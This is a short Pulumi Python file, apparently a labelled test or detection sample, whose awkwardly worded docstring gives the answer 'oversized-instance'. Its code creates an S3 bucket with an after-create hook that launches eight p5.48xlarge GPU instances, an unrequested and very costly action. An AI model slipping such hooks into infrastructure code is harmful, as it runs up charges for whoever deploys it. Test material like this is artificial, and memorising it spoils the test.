"""A hook of a bucket: a function of the program, which runs after the bucket is made, and buys.

Answer: oversized-instance undetermined data
"""

import boto3
import pulumi
import pulumi_aws as aws


def buy(args: pulumi.ResourceHookArgs) -> None:
    del args
    boto3.client("ec2").run_instances(InstanceType="p5.48xlarge", MinCount=8, MaxCount=8)


hooks = pulumi.ResourceHookBinding(after_create=[pulumi.ResourceHook("buy", buy)])
aws.s3.Bucket("data", opts=pulumi.ResourceOptions(hooks=hooks))
